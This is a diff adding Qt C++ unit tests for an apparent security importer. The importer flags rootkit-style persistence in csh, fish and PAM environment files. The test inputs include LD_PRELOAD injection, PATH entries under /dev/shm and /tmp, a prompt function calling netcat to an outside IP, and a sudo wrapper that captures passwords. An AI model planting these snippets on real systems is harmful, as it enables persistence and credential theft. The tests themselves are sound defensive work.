+          "rootkit/home/dev/.config/fish/functions/sudo.fish", "rootkit/etc/security/pam_env.conf",
+          "rootkit/home/dev/.pam_environment", "debian/etc/csh.login", "debian/etc/fish/config.fish"}) {
+        const QString path = QString::fromLatin1(f);
+        members.push_back({QStringLiteral("worker-3/") + path.section(QLatin1Char('/'), 1), fixture(path)});
+    }
+    const ImportedResources imported = importTarball(members);
+    QVERIFY2(imported.error.isEmpty(), qPrintable(imported.error));
+    QCOMPARE(imported.names(QStringLiteral("NodeScript")),
+             (QStringList{QStringLiteral("worker-3/etc/csh.cshrc"), QStringLiteral("worker-3/etc/csh.login"),
+                          QStringLiteral("worker-3/etc/fish/conf.d/gnome-keyring.fish"),
+                          QStringLiteral("worker-3/home/dev/.config/fish/functions/sudo.fish"),
+                          QStringLiteral("worker-3/home/dev/.tcshrc")}));
+    QCOMPARE(imported.names(QStringLiteral("NodeEnvironment")),
+             (QStringList{QStringLiteral("worker-3/etc/security/pam_env.conf"),
+                          QStringLiteral("worker-3/home/dev/.pam_environment")}));
+    // 5 in csh.cshrc, 2 in .tcshrc, 5 in gnome-keyring.fish, 1 in sudo.fish, 2 in pam_env.conf, 1 in .pam_environment.
+    QCOMPARE(imported.findings, 16);
+}
+
+void TestNodeScriptImporter::pamEnvironment()
+{
+    // pam_env.conf: the variables with their DEFAULT and OVERRIDE, the
+    // credentials fingerprinted, the title naming the file.
+    const MemoryImport conf = runFixture(QStringLiteral("rootkit/etc/security/pam_env.conf"));
+    const QJsonObject body = bodyOf(conf);
+    QCOMPARE(body.value(QStringLiteral("runs")).toString(), QStringLiteral("every login session"));
+    QCOMPARE(body.value(QStringLiteral("runsAs")).toString(), QStringLiteral("every user"));
+    const QJsonArray variables = body.value(QStringLiteral("variables")).toArray();
+    QCOMPARE(variables.size(), 3);
+    QCOMPARE(variables[0].toObject().value(QStringLiteral("default")).toString(),
+             QStringLiteral("/usr/lib/x86_64-linux-gnu/libpam_cache.so"));
+    QCOMPARE(variables[2].toObject().value(QStringLiteral("line")).toInt(), 79);
+    QCOMPARE(variables[2].toObject().value(QStringLiteral("override")).toString(),
+             QStringLiteral("/dev/shm/.u/bin:/usr/local/bin:/usr/bin:/bin"));
+    QVERIFY(variables[1]
+                .toObject()
+                .value(QStringLiteral("default"))
+                .toString()
+                .startsWith(QLatin1String("[redacted sha256:")));
+    QVERIFY(!conf.out.resources.front().body.contains(QLatin1String("wJalrXUtnFEMI")));
+    const Finding* preload =
+        findingFor(conf, QStringLiteral("node.environment.ld-preload"), QStringLiteral("etc/security/pam_env.conf"));
+    QCOMPARE(preload->severity, Severity::High);
+    QCOMPARE(preload->resourceKind, QStringLiteral("NodeEnvironment"));
+    QCOMPARE(preload->title, QStringLiteral("/etc/security/pam_env.conf preloads /usr/lib/x86_64-linux-gnu/"
+                                            "libpam_cache.so into the programs of every login session on node "
+                                            "worker-1"));
+    QVERIFY(preload->detail.contains(QLatin1String("/etc/security/pam_env.conf")));
+    const Finding* path =
+        findingFor(conf, QStringLiteral("node.environment.path"), QStringLiteral("etc/security/pam_env.conf"));
+    QCOMPARE(path->severity, Severity::Medium);
+    QCOMPARE(path->title, QStringLiteral("/etc/security/pam_env.conf puts /dev/shm/.u/bin in the PATH of every login "
+                                         "session on node worker-1"));
+
+    // A user's ~/.pam_environment: its sessions, both syntaxes.
+    const MemoryImport own = runFixture(QStringLiteral("rootkit/home/dev/.pam_environment"));
+    QCOMPARE(bodyOf(own).value(QStringLiteral("runsAs")).toString(), QStringLiteral("dev"));
+    QCOMPARE(bodyOf(own).value(QStringLiteral("owner")).toString(), QStringLiteral("dev"));
+    QCOMPARE(own.out.findings.front().title,
+             QStringLiteral("/home/dev/.pam_environment makes the login sessions of dev load libraries from "
+                            "@{HOME}/.cache/.l on node worker-1"));
+    const QJsonArray mine = bodyOf(own).value(QStringLiteral("variables")).toArray();
+    QCOMPARE(mine.size(), 2);
+    QCOMPARE(mine[1].toObject().value(QStringLiteral("name")).toString(), QStringLiteral("GITHUB_TOKEN"));
+    QVERIFY(!own.out.resources.front().body.contains(QLatin1String("ghp_R3al")));
+
+    // How lines are read.
+    const QString pam = QStringLiteral("worker-1/etc/security/pam_env.conf");
+    QCOMPARE(findingLines(runBytes("PATH DEFAULT=${HOME}/bin:/usr/bin OVERRIDE=@{HOME}/.local/bin:${PATH}\n", pam)),
+             QStringList());
+    QCOMPARE(findingLines(runBytes("PATH OVERRIDE=.:/usr/bin\n", pam)),
+             QStringList{QStringLiteral("node.environment.path@1")});
+    QCOMPARE(findingLines(runBytes("LD_LIBRARY_PATH DEFAULT=/opt/lib OVERRIDE=/var/tmp/l\n", pam)),
+             QStringList{QStringLiteral("node.environment.library-path@1")});
+    QCOMPARE(findingLines(runBytes("LD_PRELOAD DEFAULT=\nLD_PRELOAD DEFAULT=\"\" OVERRIDE=\"\"\n", pam)),
+             QStringList());
+    QCOMPARE(findingLines(runBytes("LD_PRELOAD=/lib/x.so\n", pam)),
+             QStringList{QStringLiteral("node.environment.ld-preload@1")});
+    // Both values from the temporary folder: one finding of the rule.
+    QCOMPARE(findingLines(runBytes("PATH DEFAULT=/tmp/a:/bin OVERRIDE=/tmp/b:/bin\n", pam)),
+             QStringList{QStringLiteral("node.environment.path@1")});
+    // A '#' ends the line, a '\\' before it too; a comment line inside a
+    // continued one is skipped; a '\\' joins with a blank, as pam_env does.
+    QCOMPARE(findingLines(runBytes("PATH DEFAULT=/usr/bin # OVERRIDE=/tmp/x\n", pam)), QStringList());
+    QCOMPARE(findingLines(runBytes("PATH DEFAULT=/usr/bin \\ # x\nLD_PRELOAD DEFAULT=/lib/x.so\n", pam)),
+             QStringList{QStringLiteral("node.environment.ld-preload@2")});
+    QCOMPARE(findingLines(runBytes("PATH DEFAULT=/usr/bin:\\\n/tmp/x\n", pam)), QStringList());
+    QCOMPARE(findingLines(runBytes("LD_PRELOAD \\\n# a note\n  DEFAULT=/lib/x.so\n", pam)),
+             QStringList{QStringLiteral("node.environment.ld-preload@1")});
+    // A word that is no option: named, the rest of the line read, nothing of it shown.
+    const MemoryImport odd = runBytes("DB_PASSWORD Hunter2-Secret DEFAULT=x\nPATH DEFAULT=/tmp/p\n", pam);
+    QVERIFY(hasIssue(odd.issues, QStringLiteral("node-script.not-an-option")));
+    QCOMPARE(findingLines(odd), QStringList{QStringLiteral("node.environment.path@2")});
+    for (const Issue& i : odd.issues)
+        QVERIFY(!i.message.contains(QLatin1String("Hunter2")));
+    QVERIFY(!odd.out.resources.front().body.contains(QLatin1String("Hunter2")));
+    const MemoryImport bad = runBytes("=x\nLANG DEFAULT=C\n", pam);
+    QCOMPARE(bad.result.value().skipped, 1);
+    QVERIFY(hasIssue(bad.issues, QStringLiteral("node-script.not-a-variable")));
+}
+
+void TestNodeScriptImporter::shellDialectsBounded()
+{
+    // A million precmd aliases in csh.cshrc: each judged, the first 10,000
+    // kept, a hundred findings and an issue counting the rest.
+    QByteArray bytes;
+    bytes.reserve(40 * 1000000);
+    for (int i = 0; i < 1000000; ++i)
+        bytes += "alias precmd '/tmp/p " + QByteArray::number(i % 10) + "'\n";
+    const MemoryImport m = runBytes(bytes, QStringLiteral("worker-1/etc/csh.cshrc"));
+    QVERIFY(keptBounded(m, QStringLiteral("node-script"), "suspicious", 10000, "suspiciousNotKept", 990000,
+                        QStringLiteral("999900 more commands match node.script.prompt-command")));
+
+    // One fish line of 2 MB: cut by the line reader, the file still read.
+    const QByteArray huge = "echo (" + QByteArray(2 * 1024 * 1024, 'x') + ")\n/tmp/y\n";
+    const MemoryImport h = runBytes(huge, QStringLiteral("worker-1/etc/fish/config.fish"));
+    QVERIFY(h.result.hasValue());
+    QVERIFY(hasIssue(h.issues, QStringLiteral("node-script.line-too-long")));
+    QCOMPARE(findingLines(h), QStringList{QStringLiteral("node.script.runs-from-temp@2")});
+    QVERIFY(h.out.resources.front().body.size() < 64 * 1024);
+
+    // 100,000 blocks opened and closed, then a prompt function: the blocks past
+    // the first 64 counted, so the function is still known for what it is.
+    QByteArray nested;
+    for (int i = 0; i < 100000; ++i)
+        nested += "begin\n";
+    for (int i = 0; i < 100000; ++i)
+        nested += "end\n";
+    nested += "function fish_prompt\n    nc 203.0.113.7 9\nend\n";
+    const MemoryImport n = runBytes(nested, QStringLiteral("worker-1/etc/fish/conf.d/x.fish"));
+    QCOMPARE(findingLines(n), QStringList{QStringLiteral("node.script.prompt-command@200002")});
+    // More ends than blocks, a function never closed: read to the end.
+    QCOMPARE(rulesOf("end\nend\nfunction sudo\n    read -s p\n", QStringLiteral("worker-1/etc/fish/config.fish")),
+             QStringList{QStringLiteral("credential-alias@4")});
+    // A csh quote never closed: read up to the bound, then afresh.
+    QByteArray quoted = "alias x 'never closed\n";
+    for (int i = 0; i < 20000; ++i)
+        quoted += "line " + QByteArray::number(i) + "\n";
+    const MemoryImport q = runBytes(quoted, QStringLiteral("worker-1/etc/csh.cshrc"));
+    QVERIFY(q.result.hasValue());
+    QVERIFY(hasIssue(q.issues, QStringLiteral("node-script.too-long")));
+    // A pam_env.conf line continued a million times: read up to the bound.
+    QByteArray continued = "PATH DEFAULT=/usr/bin\\\n";
+    for (int i = 0; i < 1000000; ++i)
+        continued += ":/opt/x\\\n";
+    continued += ":/end\nLD_PRELOAD DEFAULT=/lib/x.so\n";
+    const MemoryImport c = runBytes(continued, QStringLiteral("worker-1/etc/security/pam_env.conf"));
+    QVERIFY(c.result.hasValue());
+    QVERIFY(hasIssue(c.issues, QStringLiteral("node-script.too-long")));
+    QCOMPARE(findingLines(c), QStringList{QStringLiteral("node.environment.ld-preload@1000003")});
+    QVERIFY(c.out.resources.front().body.size() < 256 * 1024);
 }
 
 QTEST_GUILESS_MAIN(TestNodeScriptImporter)
